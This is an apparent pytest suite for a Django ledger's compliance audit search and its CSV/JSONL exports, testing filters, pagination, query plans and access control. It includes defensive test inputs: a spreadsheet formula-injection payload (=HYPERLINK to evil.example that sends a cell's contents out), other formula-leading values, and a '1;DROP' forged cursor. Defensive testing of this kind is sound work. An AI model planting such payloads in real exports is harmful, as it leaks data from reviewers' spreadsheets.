"""Audit search and export for compliance reviewers."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from typing import Any

import psycopg
import pytest
from django.contrib.auth.models import Group, User
from django.db import connection, transaction
from django.db.models import Q
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from ledger import policy
from ledger.audit import csv_cell, export_rows, page_cursor, parse_cursor, search
from ledger.models import Capability, Event, Invocation
from ledger.services import flag_missing_evidence
from ledger.views import PAGE
from reconciliation.services import invocation_assign, invocation_resolve, probe_requested
from tests.conftest import Api, invocation_rows_read
from tests.ledger.conftest import ledger_clock_at, superuser_sql


@pytest.fixture
def reviewer(db: None) -> Client:
    user = User.objects.create_user("cora", password="pw")
    user.groups.add(Group.objects.get_or_create(name="compliance")[0])
    client = Client()
    client.force_login(user)
    return client


@pytest.fixture
def history(api: Api, api_b: Api, refund: Capability) -> None:
    """60 invocations: two runtimes, three capabilities, flagged and resolved ones."""
    for n in range(60):
        runtime = api if n % 2 else api_b
        capability = ("refund.create", "payroll.change", "order.read")[n % 3]
        runtime.intent(
            invocation_id=f"inv-{n}", idempotency_key=f"k-{n}", capability=capability,
            task_id=f"task-{n % 4}", subject=f"customer:{n % 5}", attempt_id="a1",
        )  # fmt: skip
        if n % 5 == 0:
            deadline = Invocation.objects.get(invocation_id=f"inv-{n}").deadline_at
            assert deadline is not None
            flag_missing_evidence(invocation_id=f"inv-{n}", now=deadline)
        elif n % 5 == 1:
            # Three invocations name each reference, as two would if one effect were
            # counted twice.
            runtime.outcome(f"inv-{n}", "a1", kind="succeeded", business_reference=f"RF-{n % 20}")
    for n in (0, 10):
        invocation_resolve(
            invocation_id=f"inv-{n}", actor="user:olga", effect=policy.Effect.ABSENT,
            note="checked",
        )  # fmt: skip


def search_ids(client: Client, **params: str) -> set[str]:
    found, query = set(), dict(params)
    while True:
        page = client.get("/audit/", query, headers={"HX-Request": "true"}).content.decode()
        found |= {part.split('"')[0] for part in page.split('href="/invocations/')[1:]}
        if "Next page" not in page:
            return {f.rstrip("/") for f in found}
        query["after"] = page.split("after=")[1].split('"')[0].split("&")[0]


def sql_ids(where: str, *params: str) -> set[str]:
    with connection.cursor() as cursor:
        cursor.execute(f"SELECT invocation_id FROM ledger_invocation i WHERE {where}", params)
        return {row[0] for row in cursor.fetchall()}


@pytest.mark.parametrize(
    ("params", "where", "args"),
    [
        ({}, "true", ()),
        ({"runtime": "runtime-a"}, "runtime_id = (SELECT id FROM ledger_runtime WHERE name = %s)",
         ("runtime-a",)),
        ({"task_id": "task-1"}, "task_id = %s", ("task-1",)),
        ({"invocation_id": "inv-7"}, "invocation_id = %s", ("inv-7",)),
        ({"subject": "customer:3"}, "subject = %s", ("customer:3",)),
        ({"capability": "payroll.change"}, "capability_scope = %s", ("payroll.change",)),
        ({"status": "reconciliation_required"}, "status = %s", ("reconciliation_required",)),
        ({"cause": "evidence_missing"}, "cause = %s", ("evidence_missing",)),
        ({"flag": "undeclared"}, "%s = ANY(flags)", ("undeclared",)),
        ({"flag": "reference_shared"}, "%s = ANY(flags)", ("reference_shared",)),
        ({"operator": "olga"},
         "EXISTS (SELECT 1 FROM ledger_event e WHERE e.invocation_id = i.id AND e.actor = %s)",
         ("user:olga",)),
        ({"business_reference": "RF-1"},
         "EXISTS (SELECT 1 FROM ledger_event e WHERE e.invocation_id = i.id "
         "AND e.data->>'business_reference' = %s)", ("RF-1",)),
        ({"since": "2000-01-01T00:00", "until": "2100-01-01T00:00"},
         "created_at >= %s AND created_at < %s", ("2000-01-01", "2100-01-01")),
    ],
)  # fmt: skip
def test_each_filter_matches_a_direct_sql_count(
    history: None, reviewer: Client, params: dict[str, str], where: str, args: tuple[str, ...]
) -> None:
    expected = sql_ids(where, *args)
    assert expected  # every filter selects something in this history
    assert search_ids(reviewer, **params) == expected


def test_a_runtime_that_does_not_exist_finds_nothing(history: None, reviewer: Client) -> None:
    assert search_ids(reviewer, runtime="runtime-z") == set()
    assert search_ids(reviewer, runtime="runtime-a")  # the same search, a known name


def copies_of_index(name: str) -> set[str]:
    """A partitioned index's copies on the event table's partitions."""
    with connection.cursor() as cursor:
        cursor.execute("SELECT relid::regclass::text FROM pg_partition_tree(%s)", [name])
        return {index for (index,) in cursor.fetchall()} - {name}


def test_a_business_reference_is_found_through_its_index(history: None) -> None:
    """Even where a sequential scan is cheap, the reference filter can use the index:
    the query carries the partial index's condition."""
    from ledger.audit import search

    with transaction.atomic(), connection.cursor() as cursor:
        cursor.execute("SET LOCAL enable_seqscan = off")
        plan = search({"business_reference": "RF-1"}).explain()

    assert any(copy in plan for copy in copies_of_index("event_business_reference")), plan
    found = search({"business_reference": "RF-1"}).values_list("invocation_id", flat=True)
    assert sorted(found) == ["inv-1", "inv-21", "inv-41"]


def test_an_operator_is_found_through_the_index_of_what_people_did(history: None) -> None:
    """Their name alone lets PostgreSQL use event_by_person: the search carries no
    second condition on the actor for it to misjudge."""
    with transaction.atomic(), connection.cursor() as cursor:
        cursor.execute("SET LOCAL enable_seqscan = off")
        plan = search({"operator": "olga"}).explain()

    assert any(copy in plan for copy in copies_of_index("event_by_person")), plan
    assert "~~" not in plan  # no LIKE on the actor
    assert sorted(search({"operator": "olga"}).values_list("invocation_id", flat=True)) == [
        "inv-0",
        "inv-10",
    ]


@pytest.mark.parametrize(
    ("name", "value"),
    [*[("flag", flag.value) for flag in policy.Flag],
     ("cause", "evidence_missing"), ("cause", "proposal_rejected")],
)  # fmt: skip
def test_a_search_by_flag_or_cause_reads_only_the_invocations_that_have_it(
    history: None, name: str, value: str
) -> None:
    """Each flag's invocations, and each cause's, are indexed in the search's order, so
    one that few have, or none, is found without walking every invocation."""
    rows, fetched = invocation_rows_read(lambda: list(search({name: value})[: PAGE + 1]))
    found = [row.invocation_id for row in rows]
    lookup = Q(flags__contains=[value]) if name == "flag" else Q(cause=value)
    having = Invocation.objects.filter(lookup)
    assert set(found) == set(having.values_list("invocation_id", flat=True)[: PAGE + 1])
    assert fetched == len(found), (value, fetched, found)


def test_pages_follow_a_keyset_without_overlap(history: None, reviewer: Client) -> None:
    first = reviewer.get("/audit/").content.decode()
    assert "Next page" in first and "OFFSET" not in first
    assert "Since (UTC)" in first and "Until (UTC)" in first  # the ledger's clock
    assert len(search_ids(reviewer)) == 60
    oldest = search_ids(reviewer, order="oldest")
    assert oldest == search_ids(reviewer)


def test_pages_break_ties_in_time_by_id(history: None, reviewer: Client) -> None:
    # Invocations recorded in the same microsecond must neither repeat nor vanish
    # across a page boundary: the cursor is (created_at, id).
    # (As a superuser: nothing else may change when an invocation was recorded.)
    same = Invocation.objects.get(invocation_id="inv-30").created_at
    superuser_sql(
        "UPDATE ledger_invocation SET created_at = %s WHERE invocation_id = ANY(%s)",
        same,
        [f"inv-{n}" for n in range(30)],
    )
    for order in ("newest", "oldest"):
        assert len(search_ids(reviewer, order=order)) == 60


def every_page(**filters: Any) -> list[str]:
    """The invocations a search shows, page after page as the console pages them."""
    shown: list[str] = []
    after = None
    while True:
        page = list(search({**filters, "after": after})[: PAGE + 1])
        shown += [row.invocation_id for row in page[:PAGE]]
        if len(page) <= PAGE:
            return shown
        after = parse_cursor(page_cursor(page[PAGE - 1]))


def test_a_search_by_operator_shows_each_invocation_once_page_after_page(
    api: Api, refund: Capability
) -> None:
    """Olga took each invocation, gave it back and took it again: three events each,
    one row each. They were recorded in one microsecond, so every tie is broken by id."""
    recorded = dt.datetime.now(dt.UTC).replace(microsecond=0)
    with ledger_clock_at(recorded):
        for n in range(PAGE + 5):
            api.intent(invocation_id=f"inv-{n}", idempotency_key=f"k-{n}", attempt_id="a1")
    for n in range(PAGE + 5):
        for take in (True, False, True):
            invocation_assign(invocation_id=f"inv-{n}", actor="user:olga", take=take)
    probe_requested(invocation_id="inv-3", actor="user:pat", queued=False)  # not hers
    deadline = Invocation.objects.get(invocation_id="inv-7").deadline_at
    assert deadline is not None
    flag_missing_evidence(invocation_id="inv-7", now=deadline)

    oldest_first = [f"inv-{n}" for n in range(PAGE + 5)]
    assert every_page(operator="olga", order="oldest") == oldest_first
    assert every_page(operator="olga") == oldest_first[::-1]
    assert every_page(operator="pat") == ["inv-3"]
    assert every_page(operator="olga", status="reconciliation_required") == ["inv-7"]
    a_second = dt.timedelta(seconds=1)
    assert every_page(operator="olga", since=recorded + a_second) == []
    assert every_page(operator="olga", until=recorded + a_second, order="oldest") == oldest_first
    # The export holds every event of those invocations, each once.
    exported = [(row["invocation_id"], row["seq"]) for row in export_rows({"operator": "olga"})]
    theirs = Event.objects.filter(invocation__invocation_id__in=oldest_first)
    assert sorted(exported) == sorted(theirs.values_list("invocation__invocation_id", "seq"))


def test_a_forged_cursor_is_refused_by_name(history: None, reviewer: Client) -> None:
    page = reviewer.get("/audit/", {"after": "1;DROP"}).content.decode()
    assert "not a page cursor from this search" in page


def test_an_export_with_a_bad_filter_is_refused(
    history: None, reviewer: Client, caplog: pytest.LogCaptureFixture
) -> None:
    response = reviewer.get("/audit/export.csv", {"since": "last march"})
    assert response.status_code == 400 and b"since" in response.content
    assert "evidence exported" not in caplog.text


def test_the_csv_export_round_trips_with_every_event_hash(
    history: None, reviewer: Client, caplog: pytest.LogCaptureFixture
) -> None:
    response = reviewer.get("/audit/export.csv", {"capability": "refund.create"})
    assert response.streaming
    said = (
        'evidence exported by=user:cora what="CSV of the audit search (capability=refund.create)"'
    )
    assert said in caplog.text
    body = b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]
    rows = list(csv.DictReader(io.StringIO(body)))
    events = Event.objects.filter(invocation__capability_scope="refund.create")
    assert len(rows) == events.count()
    assert {r["hash"] for r in rows} == set(events.values_list("hash", flat=True))
    assert all(json.loads(r["data"])["state"]["status"] for r in rows)


def test_the_jsonl_export_has_one_event_per_line(history: None, reviewer: Client) -> None:
    response = reviewer.get("/audit/export.jsonl", {"invocation_id": "inv-0"})
    lines = b"".join(response.streaming_content).decode().splitlines()  # type: ignore[attr-defined]
    records = [json.loads(line) for line in lines]
    assert [r["seq"] for r in records] == list(range(1, len(records) + 1))
    assert records[-1]["kind"] == "resolution" and records[-1]["data"]["note"] == "checked"


def test_both_exports_carry_the_flags(history: None, reviewer: Client) -> None:
    """A list in JSONL; space-separated in a CSV cell."""
    query = {"invocation_id": "inv-1"}  # payroll.change: not declared
    jsonl = b"".join(reviewer.get("/audit/export.jsonl", query).streaming_content)  # type: ignore[attr-defined]
    assert {tuple(json.loads(line)["flags"]) for line in jsonl.splitlines()} == {("undeclared",)}
    csv_body = b"".join(reviewer.get("/audit/export.csv", query).streaming_content)  # type: ignore[attr-defined]
    rows = csv.DictReader(io.StringIO(csv_body.decode()))
    assert {row["flags"] for row in rows} == {"undeclared"}


def test_the_action_log_shows_what_people_did(history: None, reviewer: Client) -> None:
    page = reviewer.get("/audit/actions/").content.decode()
    assert page.count("user:olga") == 2 and "checked" in page


@pytest.mark.parametrize("path", ["/audit/", "/audit/actions/", "/audit/export.csv"])
def test_compliance_reads_and_changes_nothing(history: None, reviewer: Client, path: str) -> None:
    assert reviewer.get(path).status_code == 200
    assert reviewer.post(path).status_code == 405


@pytest.mark.parametrize("path", ["/audit/", "/", "/invocations/inv-1/"])
def test_a_runtime_token_opens_no_console_page(history: None, api: Api, path: str) -> None:
    response = Client().get(path, headers=api.headers())
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]


def test_token_issue_and_revocation_are_in_the_action_log(db: None, reviewer: Client) -> None:
    from django.core.management import call_command

    out = io.StringIO()
    call_command("create_runtime", "billing", label="ci", stdout=out, stderr=io.StringIO())
    token = out.getvalue().strip().splitlines()[-1]
    call_command("revoke_token", token, reason="leaked in a log", stdout=io.StringIO())
    page = reviewer.get("/audit/actions/").content.decode()
    table = page.split('id="admin-actions"')[1]
    assert "token_issued" in table and "token_revoked" in table
    assert "leaked in a log" in table and "runtime billing" in table


def test_the_export_command_streams_the_same_rows(history: None) -> None:
    from django.core.management import call_command

    out = io.StringIO()
    call_command("export_audit", capability="payroll.change", stdout=out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    events = Event.objects.filter(invocation__capability_scope="payroll.change")
    assert sorted(r["hash"] for r in rows) == sorted(events.values_list("hash", flat=True))


HOSTILE_SUBJECTS = {
    "inv-formula": '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "inv-blank-first": "  -2+3",
    "inv-at": "@SUM(1)",
    "inv-quoted": "'already quoted",
    "inv-plain": "customer:7",
}


def test_no_exported_csv_cell_runs_as_a_formula(api: Api, reviewer: Client) -> None:
    """A runtime picks its subjects; the reviewer's spreadsheet must not run them, and
    dropping the one leading quote gives back what was recorded (JSONL is verbatim)."""
    for n, (invocation_id, subject) in enumerate(HOSTILE_SUBJECTS.items()):
        status, body = api.intent(
            invocation_id=invocation_id, idempotency_key=f"k{n}", subject=subject
        )
        assert status == 201, body
    csv_body = b"".join(reviewer.get("/audit/export.csv").streaming_content)  # type: ignore[attr-defined]
    rows = csv.DictReader(io.StringIO(csv_body.decode()))
    cells = {row["invocation_id"]: row["subject"] for row in rows}
    assert cells["inv-plain"] == "customer:7"
    for invocation_id, subject in HOSTILE_SUBJECTS.items():
        if invocation_id != "inv-plain":
            assert cells[invocation_id] == "'" + subject
    jsonl = b"".join(reviewer.get("/audit/export.jsonl").streaming_content)  # type: ignore[attr-defined]
    verbatim = {r["invocation_id"]: r["subject"] for r in map(json.loads, jsonl.splitlines())}
    assert verbatim == HOSTILE_SUBJECTS
    assert {i: c.removeprefix("'") for i, c in cells.items()} == verbatim


@given(st.text())
def test_a_csv_cell_unquotes_exactly_and_never_starts_a_formula(value: str) -> None:
    cell = csv_cell(value)
    assert (cell[1:] if cell.startswith("'") else cell) == value
    assert cell.startswith("'") or not cell.lstrip().startswith(("=", "+", "-", "@"))


def test_a_reference_few_events_name_is_estimated_as_few(transactional_db: None) -> None:
    """PostgreSQL keeps no statistics of a partial index's expression. Without the
    events' own (migration 0024) it guesses that a fixed share of all events name any
    reference, and at a million invocations it found the two that name one by walking
    every invocation in time order: 1.4 s in bench_audit, under 1 ms with them."""
    from ledger.audit import naming_reference
    from ledger.management.commands.bench_audit import Command

    db = connection.settings_dict
    Command().generate(
        psycopg.conninfo.make_conninfo(
            host=db["HOST"], port=str(db["PORT"]), user=db["USER"], dbname=db["NAME"]
        ),
        20_000,
    )  # analyzed, with every tenth event naming a reference and two naming each

    plan = json.loads(naming_reference("RF-42").explain(format="json"))[0]["Plan"]

    # Each month of 2026 (a partition of ~1,700 events) through its own copy of the
    # index, and by its own statistics, which the partition's maker gives it: without
    # them, 3 rows each here; a fixed share of every event of the month at a million.
    months = [p for p in plan["Plans"] if p["Relation Name"].startswith("ledger_event_2026_")]
    assert len(months) == 12, plan
    copies = copies_of_index("event_business_reference")
    assert all(p["Index Name"] in copies and p["Plan Rows"] <= 2 for p in months), plan
